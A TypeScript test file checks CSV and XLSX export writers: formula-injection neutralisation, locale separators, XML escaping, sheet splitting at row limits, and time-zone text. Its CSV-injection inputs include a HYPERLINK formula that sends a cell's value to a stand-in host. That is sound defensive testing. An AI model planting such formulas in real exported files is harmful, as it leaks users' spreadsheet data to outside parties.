import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { type Cell, instantText, LocalTimes, zoneText } from "../../../server/exports/files/cells";
import { csvSeparator, decimalSign, withoutFormulas } from "../../../schema/rules/exports/csv";
import { type Locale, locales } from "../../../schema/rules/language/locales";
import { CsvWriter } from "../../../server/exports/files/csv";
import type { TableWriter } from "../../../server/exports/files/tableWriter";
import { XlsxWriter } from "../../../server/exports/files/xlsx";
import { escapeXml, sheetName } from "../../../server/exports/files/xlsxParts";
import { readCsv, readXlsx, unzip } from "../../fixtures/exports/readFiles";

async function written(writer: (sink: (bytes: Buffer) => Promise<void>) => TableWriter, headings: string[], batches: Cell[][][]) {
  const parts: Buffer[] = [];
  const file = writer((bytes) => Promise.resolve(void parts.push(bytes)));
  await file.begin(headings);
  for (const rows of batches) await file.rows(rows);
  await file.end();
  return Buffer.concat(parts);
}
const csv = (rows: Cell[][], locale: Locale = "en") => written((sink) => new CsvWriter(sink, locale), ["A", "B"], [rows]);
const xlsx = (batches: Cell[][][], sheetRows?: number) => written((sink) => new XlsxWriter(sink, "Claims", sheetRows), ["A", "B"], batches);

describe("a CSV", () => {
  test.each(["=1+1", "+34 600", "-2+3", "@SUM(A1)", "\tx", "\rx", "\nx", " =1", "＝1", "－1"])("has %j as text", (text) => {
    expect(withoutFormulas(text)).toBe(`'${text}`);
  });
  test.each(["a=1", "2-3", "x@y.es", "'=1", "", "Ñ"])("keeps %j unchanged", (text) => expect(withoutFormulas(text)).toBe(text));

  test("contains no formula after a separator or line break within a text", () => {
    const text = 'Ana;=1+1;fin\n@SUM(A1)\t-2| ＝3, +4;x;=HYPERLINK("http://example.invalid/?"&A1)';
    expect(withoutFormulas(text)).toBe(`Ana;'=1+1;fin\n'@SUM(A1)\t'-2|' ＝3,' +4;x;'=HYPERLINK("http://example.invalid/?"&A1)`);
  });

  test("quotes every text and uses the separator and decimal sign of its language", async () => {
    const row: Cell[] = ['a;"b"', 1.5];
    expect((await csv([row], "es")).toString()).toBe('\uFEFF"A";"B"\r\n"a;""b""";1,5\r\n');
    expect((await csv([row], "en")).toString()).toBe('\uFEFF"A","B"\r\n"a;""b""",1.5\r\n');
    for (const locale of ["ca", "it", "fr", "el", "pt", "tr", "bz"] as const)
      expect((await csv([], locale)).toString()).toContain('"A";"B"');
  });

  test.each(Object.keys(locales) as Locale[])("is read as its rows by a spreadsheet of language %s", async (locale) => {
    const rows: Cell[][] = [
      ["Ana;=1+1;fin", 1.5],
      ['two\r\nlines, and a "quote"', -3],
      ["0012", null],
    ];
    const text = (await csv(rows, locale)).toString().slice(1);
    const { data, errors } = Papa.parse<string[]>(text, { delimiter: csvSeparator(locales[locale]), skipEmptyLines: true });
    expect(errors).toEqual([]);
    expect(data).toEqual([
      ["A", "B"],
      ["Ana;'=1+1;fin", `1${decimalSign(locales[locale])}5`],
      ['two\r\nlines, and a "quote"', "-3"],
      ["0012", ""],
    ]);
  });

  test("reads back identically for any text, with numbers as numbers", async () => {
    const texts = fc.array(fc.tuple(fc.string({ unit: "binary" }), fc.double({ noNaN: true, noDefaultInfinity: true })), { maxLength: 20 });
    const same = fc.asyncProperty(texts, async (rows) => {
      const read = readCsv(await csv(rows));
      expect(read).toEqual([["A", "B"], ...rows.map(([text, n]) => [withoutFormulas(text), String(n)])]);
      for (const [text] of read.slice(1)) expect(text).not.toMatch(/(^|[,;|\t\r\n])\s*[=+\-@]/);
    });
    await fc.assert(same, { numRuns: 100 });
  });
});

describe("an XLSX", () => {
  test("contains every text as text, without characters invalid in XML", async () => {
    const texts = ["=1+1", ' <a href="x">&amp;</a>', "_x0041_", "two\nlines\r", "bell\u0007", "", "x".repeat(40_000)];
    const [sheet] = readXlsx(await xlsx([texts.map((text, n) => [text, n])]));
    expect(sheet!.rows.slice(1).map(([text]) => text)).toEqual([...texts.slice(0, 4), "bell", null, "x".repeat(32_767)]);
    expect(sheet!.rows.slice(1).map(([, n]) => n)).toEqual([0, 1, 2, 3, 4, 5, 6]);
    expect(escapeXml("plain, text")).toBe("plain, text");
  });

  test("continues on another sheet with the headings repeated", async () => {
    const rows = Array.from({ length: 7 }, (_, n): Cell[] => [`row ${n}`, n]);
    const sheets = readXlsx(await xlsx([rows.slice(0, 2), rows.slice(2, 6), rows.slice(6)], 3));
    expect(sheets.map(({ name, rows: own }) => [name, own[0], own.length - 1])).toEqual([
      ["Claims", ["A", "B"], 3],
      ["Claims 2", ["A", "B"], 3],
      ["Claims 3", ["A", "B"], 1],
    ]);
    expect(sheets.flatMap(({ rows: own }) => own.slice(1).map(([, n]) => n))).toEqual([0, 1, 2, 3, 4, 5, 6]);
    // A full last sheet has no empty one after it.
    expect(readXlsx(await xlsx([rows.slice(0, 6)], 3)).length).toBe(2);
    expect(readXlsx(await xlsx([], 3)).map(({ rows: own }) => own.length)).toEqual([1]);
  });

  test("fills each sheet up to the row limit of XLSX, and continues on another", async () => {
    const batch = Array.from({ length: 1_000 }, (): Cell[] => [null]);
    const batches = Array.from({ length: 1_049 }, () => batch);
    const parts = unzip(await xlsx(batches));
    const rows = (sheet: number): number => parts[`xl/worksheets/sheet${sheet}.xml`]!.split("<row>").length - 1;
    // Its headings are one more row of each.
    expect([rows(1), rows(2)]).toEqual([1_048_576, 1_049_000 - 1_048_575 + 1]);
  });

  test("lists exactly the existing parts in its manifest", async () => {
    const parts = unzip(await xlsx([[["a", 1]], [["b", 2]]], 1));
    const named = [...parts["[Content_Types].xml"]!.matchAll(/PartName="\/([^"]*)"/g)].map(([, name]) => name).sort();
    expect(named).toEqual(
      Object.keys(parts)
        .filter((name) => name.startsWith("xl/") && name.endsWith(".xml"))
        .sort(),
    );
  });

  test("has sheet names that every spreadsheet accepts", () => {
    expect([sheetName("Claims: [a/b]", 0), sheetName("x".repeat(40), 11)]).toEqual(["Claims   a b ", `${"x".repeat(28)} 12`]);
  });
});

describe("times", () => {
  const times = new LocalTimes();
  const shown = (at: string, zone: string): string => instantText(times.of(new Date(at), zone));
  test("use the zone's clocks, also on the day of a clock change, and name the zone", () => {
    expect(shown("2026-03-29T00:59:59Z", "Europe/Madrid")).toBe("2026-03-29 01:59 UTC+1");
    expect(shown("2026-03-29T01:00:00Z", "Europe/Madrid")).toBe("2026-03-29 03:00 UTC+2");
    expect(shown("2026-07-01T22:30:00Z", "Europe/Lisbon")).toBe("2026-07-01 23:30 UTC+1");
    expect(shown("2026-01-01T00:30:00Z", "America/Sao_Paulo")).toBe("2025-12-31 21:30 UTC-3");
    expect(shown("2026-01-01T00:30:00Z", "Europe/Lisbon")).toBe("2026-01-01 00:30 UTC");
  });
  test("show the minutes of a zone's offset", () => {
    expect([zoneText(330), zoneText(-210), zoneText(0)]).toEqual(["UTC+5:30", "UTC-3:30", "UTC"]);
  });
});
